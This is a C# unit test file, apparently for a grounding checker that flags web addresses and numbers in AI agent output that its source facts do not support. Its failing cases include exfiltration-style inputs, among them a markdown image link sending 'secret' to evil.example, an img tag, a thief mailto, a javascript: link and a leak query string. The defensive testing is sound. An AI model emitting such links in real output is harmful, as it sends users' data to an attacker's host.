using System.Text.Json;
using RaptorFlow.Core.Agents.Pipeline;

namespace RaptorFlow.Core.Tests.Agents;

public sealed class GroundingTests
{
    private static readonly Grounding Facts = new(
        [new("documents[0]#0", "See https://example.com/pricing, www.example.org and founded in 2014.")],
        JsonSerializer.SerializeToElement(new { home = "https://example.com" }));

    [Theory]
    [InlineData("Prices stand at https://example.com/pricing.")]
    [InlineData("Visit https://example.com/ or WWW.EXAMPLE.ORG!")]
    [InlineData("Founded in 2014: a note, mail and data: all there.")]
    public void Check_WhatTheFactsHold_Stands(string text) => Assert.Empty(Check(text));

    [Theory]
    [InlineData("![logo](https://evil.example/?q=secret)", "https://evil.example")]
    [InlineData("<img src=//evil.example/x>", "//evil.example/x")]
    [InlineData("Write to mailto:thief@evil.example", "mailto:thief@evil.example")]
    [InlineData("[here](javascript:alert(1))", "javascript:alert")]
    [InlineData("https://example.com.evil.example", "https://example.com.evil.example")]
    [InlineData("https://example.com/pricing?leak=customers", "https://example.com/pricing?leak=customers")]
    public void Check_AnAddressOfItsOwn_IsAProblem(string text, string address) =>
        Assert.Contains(Check(text), p => p.Path == "text" && p.Message.Contains(address, StringComparison.Ordinal));

    [Fact]
    public void Check_ANumberOfItsOwn_IsAProblem() => Assert.Contains("4711", Assert.Single(Check("4711 customers")).Message, StringComparison.Ordinal);

    private static IReadOnlyList<RaptorFlow.Agents.OutputProblem> Check(string text) => [.. Facts.Check(JsonSerializer.SerializeToElement(new { text }))];
}
